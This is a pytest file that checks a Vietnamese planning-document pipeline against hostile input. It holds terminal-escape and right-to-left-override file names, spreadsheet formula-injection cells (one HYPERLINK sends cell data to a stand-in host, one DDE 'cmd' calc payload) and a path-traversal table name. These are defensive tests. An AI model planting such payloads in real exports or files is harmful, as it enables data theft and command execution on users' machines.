"""The smaller findings of issue 17 (item 7), as a hostile or careless user
meets them: file names that would drive the terminal, CSV cells a
spreadsheet would run, link loops, text with surrogates, a run killed before
the citation graph followed it, a crafted table name in `export`."""

from __future__ import annotations

import csv
import io
import os
import shutil

import duckdb
import pytest
from click.testing import CliRunner

from pipeline import process_text, store
from pipeline.cli import main, shown
from pipeline.export import render_csv
from pipeline.run import run
from tests.conftest import RAW, seed_path

# --- names printed escaped -------------------------------------------------------

FAKE_SUMMARY = "9 stored, 0 unchanged, 0 failed -> plans.duckdb"

NAMES = [
    # (file name, how `plans run` prints it)
    (f"x\n{FAKE_SUMMARY}\n.txt", f"x\\n{FAKE_SUMMARY}\\n.txt"),
    ("\x1b[2J\x1b[1;1Hplan.txt", "\\x1b[2J\\x1b[1;1Hplan.txt"),  # clear the screen, cursor home
    ("\x1b]0;owned\x07plan.txt", "\\x1b]0;owned\\x07plan.txt"),  # the terminal's title
    ("tep\u202etxt.exe.txt", "tep\\u202etxt.exe.txt"),  # right-to-left override
    ("kế-hoạch\tsố 5.txt", "kế-hoạch\\tsố 5.txt"),  # Vietnamese stays as it is
]


@pytest.mark.parametrize("name, printed", NAMES)
def test_file_names_are_printed_escaped(tmp_path, name, printed):
    folder = tmp_path / "in"
    folder.mkdir()
    shutil.copy(seed_path("003"), folder / name)
    (folder / ("empty-" + name)).write_bytes(b"")  # and the error line of a bad file
    out = CliRunner().invoke(main, ["run", str(folder), "--db", str(tmp_path / "n.duckdb")])
    lines = out.output.splitlines()
    assert FAKE_SUMMARY not in lines
    assert not any(c in out.output for c in "\x1b\x07\u202e")
    assert any(line.startswith(f"{printed}: Kế hoạch 4290/KH-UBND") for line in lines), out.output
    assert f"error: {folder}/empty-{printed}: empty: the file is empty" in lines
    assert lines[-1] == f"1 stored, 0 unchanged, 1 failed -> {tmp_path / 'n.duckdb'}"


def test_shown_escapes_only_what_a_terminal_acts_on():
    assert shown("Ủy ban nhân dân tỉnh Lai Châu – 573/TTg-KGVX") == "Ủy ban nhân dân tỉnh Lai Châu – 573/TTg-KGVX"
    assert shown("a\r\nb\x00c\x9bd\u2028e") == "a\\r\\nb\\x00c\\x9bd\\u2028e"


# --- CSV cells a spreadsheet would run ---------------------------------------------

CELLS = [
    # (value, CSV field)
    ('=HYPERLINK("http://x.example/?"&A1,"Xem")', '\'=HYPERLINK("http://x.example/?"&A1,"Xem")'),
    ("+84 912 345 678", "'+84 912 345 678"),
    ("- Tổ chức tuyên truyền phòng, chống ma túy;", "'- Tổ chức tuyên truyền phòng, chống ma túy;"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("573/TTg-KGVX", "573/TTg-KGVX"),
    (-3, "-3"),  # a number is no formula
    (None, ""),
]


@pytest.mark.parametrize("value, field", CELLS)
def test_query_csv_cells_opening_like_a_formula_are_text(value, field):
    [row] = list(csv.reader(io.StringIO(render_csv(["text"], [(value,)]))))[1:]
    assert row == [field]


@pytest.fixture
def crafted_db(tmp_path):
    """A database someone handed over: a table whose name climbs out of the
    export folder, holding cells a spreadsheet would run."""
    path = tmp_path / "crafted.duckdb"
    with duckdb.connect(str(path)) as con:
        con.execute('CREATE TABLE "../../x" (text VARCHAR, n INTEGER)')
        con.execute('INSERT INTO "../../x" VALUES (?, 1), (?, -2), (?, 3)',
                    ["=cmd|' /C calc'!A0", "Kế hoạch số 4290/KH-UBND", "@SUM(A1)"])
    return path


def test_export_keeps_every_file_in_out_dir(tmp_path, crafted_db):
    out_dir = tmp_path / "a" / "b" / "out"
    result = CliRunner().invoke(main, ["export", "--format", "csv", str(out_dir), "--db", str(crafted_db)])
    assert result.exit_code == 0, result.output
    assert [p.name for p in out_dir.iterdir()] == ["..%2F..%2Fx.csv"]
    assert not (tmp_path / "a" / "x.csv").exists()
    with open(out_dir / "..%2F..%2Fx.csv", encoding="utf-8-sig", newline="") as f:
        assert list(csv.reader(f)) == [["text", "n"], ["'=cmd|' /C calc'!A0", "1"],
                                       ["Kế hoạch số 4290/KH-UBND", "-2"], ["'@SUM(A1)", "3"]]


# --- link loops ----------------------------------------------------------------------

def test_link_loops_are_reported(tmp_path):
    folder = tmp_path / "in"
    (folder / "a").mkdir(parents=True)
    shutil.copy(seed_path("003"), folder / "a" / "plan.txt")
    os.symlink("..", folder / "a" / "back")  # a folder link to the folder above
    os.symlink("self.txt", folder / "self.txt")  # a link to itself
    os.symlink("a", folder / "alias")  # a folder link: followed, its file read once
    result = run([folder], tmp_path / "l.duckdb")
    assert result.stored == ["plan.txt"]
    assert [(e.path, e.problem, e.message) for e in result.failed] == [
        ("in/a/back", "symlink_loop", f"{folder}/a/back: symlink_loop: a link back to a folder that holds it "
                                      "(a loop); not followed"),
        ("in/self.txt", "symlink_loop", f"{folder}/self.txt: symlink_loop: a link that leads back to itself; "
                                        "point it at a file or remove it"),
    ]


# --- surrogates ------------------------------------------------------------------------

SURROGATES = [
    # (text, stored text)
    ("\ud800", "\ufffd\n"),  # a lone high surrogate
    ("Kế hoạch \udfff số 05", "Kế hoạch \ufffd số 05\n"),  # a lone low one
    ("Ngày toàn dân \ud83d\ude00 (26/6)", "Ngày toàn dân \U0001f600 (26/6)\n"),  # a pair: its character
]


@pytest.mark.parametrize("text, stored", SURROGATES)
def test_surrogates_are_cleaned_not_a_crash(text, stored):
    assert process_text(text).document.text == stored


# --- a run killed before the citation graph -------------------------------------------

class Killed(BaseException):
    """What a kill or Ctrl-C does to a run: it stops where it is."""


def _kill(outcome) -> None:
    raise Killed


def test_a_killed_run_leaves_the_graph_marked_and_the_next_run_rebuilds_it_first(tmp_path):
    db = tmp_path / "k.duckdb"
    with pytest.raises(Killed):  # killed right after its first documents were stored
        run([RAW], db, on_document=_kill)
    with duckdb.connect(str(db), read_only=True) as con:
        assert con.execute("SELECT count(*) FROM documents").fetchone()[0] == 5
        assert con.execute("SELECT count(*) FROM cited_documents").fetchone()[0] == 0
        assert not store.graph_is_fresh(con)
    out = CliRunner().invoke(main, ["trace", "573/TTg-KGVX", "--db", str(db)])
    assert out.output.startswith("warning: the last run was stopped before the citation graph followed its "
                                 "documents; `plans run` again rebuilds it\n")
    with pytest.raises(Killed):  # the next run, killed at its first file (all unchanged)
        run([RAW], db, on_document=_kill)
    with duckdb.connect(str(db), read_only=True) as con:
        assert con.execute("SELECT n_citing_docs FROM cited_documents WHERE number = '573/TTg-KGVX'"
                           ).fetchone() == (3,)
        assert store.graph_is_fresh(con)
